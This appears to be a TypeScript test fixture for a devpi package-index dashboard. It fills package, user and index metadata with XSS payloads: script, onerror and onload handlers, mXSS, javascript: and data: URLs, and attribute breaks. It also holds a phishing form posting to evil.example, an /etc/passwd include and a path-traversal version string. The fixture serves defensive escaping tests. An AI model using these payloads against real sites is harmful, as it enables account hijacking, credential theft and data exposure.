// Package metadata written to run script or inject markup wherever it is shown. Every payload
// calls window.__hostile('<id>') if it ever executes; the spec exposes that function and fails on
// any call, any dialog, any CSP violation and any console error about a refused resource.
import type { UploadMetadata } from '@devpi-dashboard/devpi-client';

const call = (id: string) => `__hostile('${id}')`;

/** Markup and URL tricks, each tagged so a failure names the payload that got through. */
export const markup = {
  script: (id: string) => `<script>${call(id)}</script>`,
  img: (id: string) => `<img src=x onerror="${call(id)}">`,
  svg: (id: string) => `<svg onload=${call(id)}>`,
  attrBreak: (id: string) => `"><svg/onload=${call(id)}>`,
  singleQuoteBreak: (id: string) => `'><img src=x onerror=${call(id)}>`,
  iframe: (id: string) => `<iframe srcdoc="<script>parent.${call(id)}</script>"></iframe>`,
  mxss: (id: string) => `<math><mtext><table><mglyph><style><img src=x onerror=${call(id)}>`,
  noscript: (id: string) => `<noscript><p title="</noscript><img src=x onerror=${call(id)}>">`,
  template: (id: string) => `{{constructor.constructor('${call(id)}')()}}`,
  styleImport: () => `<style>@import 'http://evil.example/x.css';</style>`,
  base: () => `<base href="http://evil.example/">`,
  meta: (id: string) => `<meta http-equiv="refresh" content="0;url=javascript:${call(id)}">`,
  object: (id: string) => `<object data="javascript:${call(id)}"></object>`,
  form: () => `<form action="http://evil.example/steal"><button>Continue</button></form>`,
  httpImage: () => `<img src="http://evil.example/track.png" alt="tracker">`,
  jsUrl: (id: string) => `javascript:${call(id)}`,
  jsUrlMixed: (id: string) => ` JaVaScRiPt:${call(id)}`,
  jsUrlEntity: (id: string) => `&#106;avascript:${call(id)}`,
  dataUrl: (id: string) => `data:text/html,<script>${call(id)}</script>`,
};

export interface HostilePackage {
  name: string;
  version: string;
  metadata: UploadMetadata;
  /** Text that must show up literally (as text, not markup) on the project's screens. */
  visibleText: string;
}

function markdownDescription(p: string): string {
  return [
    `# Hostile ${p}`,
    markup.script(`${p}-md-script`),
    markup.img(`${p}-md-img`),
    markup.svg(`${p}-md-svg`),
    markup.iframe(`${p}-md-iframe`),
    markup.mxss(`${p}-md-mxss`),
    markup.noscript(`${p}-md-noscript`),
    markup.styleImport(),
    markup.base(),
    markup.meta(`${p}-md-meta`),
    markup.object(`${p}-md-object`),
    markup.form(),
    markup.httpImage(),
    `[click me](${markup.jsUrl(`${p}-md-link`)})`,
    `[click me too](${markup.jsUrlEntity(`${p}-md-link-entity`)})`,
    `<a href="${markup.jsUrlMixed(`${p}-md-a`)}">mixed case</a>`,
    `[data](${markup.dataUrl(`${p}-md-data`)})`,
    `![img](${markup.jsUrl(`${p}-md-image`)})`,
    markup.template(`${p}-md-template`),
    '```html',
    markup.script(`${p}-md-codeblock-is-text`),
    '```',
  ].join('\n\n');
}

function rstDescription(p: string): string {
  return [
    `Hostile ${p}`,
    '=============',
    '',
    '.. raw:: html',
    '',
    `   ${markup.script(`${p}-rst-raw`)}`,
    '',
    `A \`link <${markup.jsUrl(`${p}-rst-link`)}>\`_ and an image:`,
    '',
    `.. image:: ${markup.jsUrl(`${p}-rst-image`)}`,
    '',
    '.. include:: /etc/passwd',
    '',
    '.. code:: html',
    '',
    `   ${markup.img(`${p}-rst-code-is-text`)}`,
    '',
    `Inline ${markup.attrBreak(`${p}-rst-inline`)} text.`,
  ].join('\n');
}

function fields(p: string, description: string, contentType: string): UploadMetadata {
  return {
    summary: `${markup.img(`${p}-summary`)} ${markup.attrBreak(`${p}-summary2`)}`,
    description,
    description_content_type: contentType,
    home_page: markup.jsUrl(`${p}-home`),
    download_url: markup.jsUrlMixed(`${p}-download`),
    author: markup.script(`${p}-author`),
    author_email: `x@example.com${markup.attrBreak(`${p}-email`)}`,
    maintainer: markup.singleQuoteBreak(`${p}-maintainer`),
    maintainer_email: `mailto:${markup.jsUrl(`${p}-memail`)}`,
    license: markup.iframe(`${p}-license`),
    keywords: `${markup.svg(`${p}-kw`)},${markup.template(`${p}-kw2`)}`,
    classifiers: [`Framework :: ${markup.script(`${p}-classifier`)}`, `Topic :: ${markup.img(`${p}-classifier2`)}`, 'Programming Language :: Python :: 3'],
    platform: [markup.svg(`${p}-platform`)],
    requires_dist: [`evil-dep; extra == "${markup.script(`${p}-req`)}"`],
    requires_python: `>=3${markup.img(`${p}-rp`)}`,
    provides_extras: [markup.img(`${p}-extra`)],
    project_urls: [
      `Docs, ${markup.jsUrl(`${p}-purl`)}`,
      `Data, ${markup.dataUrl(`${p}-purl-data`)}`,
      `Source, https://example.com/${markup.attrBreak(`${p}-purl-attr`)}`,
      `${markup.img(`${p}-purl-label`)}, https://example.com/`,
    ],
  };
}

/** Packages devpi accepts; each name is unique per run (prefix) but harmless itself. */
export function hostilePackages(prefix: string): HostilePackage[] {
  return [
    { name: `${prefix}-md`, version: '1.0', metadata: fields('md', markdownDescription('md'), 'text/markdown'), visibleText: '<img src=x onerror=' },
    { name: `${prefix}-rst`, version: '1.0', metadata: fields('rst', rstDescription('rst'), 'text/x-rst'), visibleText: '<img src=x onerror=' },
    { name: `${prefix}-plain`, version: '1.0', metadata: fields('plain', markup.script('plain-description'), 'text/plain'), visibleText: '<img src=x onerror=' },
    // Names that are JavaScript object keys: code using plain objects as maps trips on them.
    { name: `${prefix}-constructor`, version: '1.0+local.evil', metadata: fields('ctor', 'constructor', 'text/plain'), visibleText: '<img src=x onerror=' },
  ];
}

/** Names and versions devpi must turn down; tried, counted, never shown. */
export const refusedUploads: { name: string; version: string }[] = [
  { name: `<script>__hostile('name')</script>`, version: '1.0' },
  { name: `x"><img src=x onerror=__hostile('name2')>`, version: '1.0' },
  { name: 'evil-version', version: `1.0"><img src=x onerror=__hostile('version')>` },
  { name: 'evil-version-slash', version: '1.0/../../etc' },
];

/** Free text on users and indexes, shown on the admin screens. */
export const hostileUserFields = {
  title: markup.img('user-title'),
  description: `${markup.script('user-description')} ${markup.attrBreak('user-description2')}`,
};
export const hostileIndexFields = {
  title: markup.svg('index-title'),
  description: `${markup.iframe('index-description')} [x](${markup.jsUrl('index-description-link')})`,
};
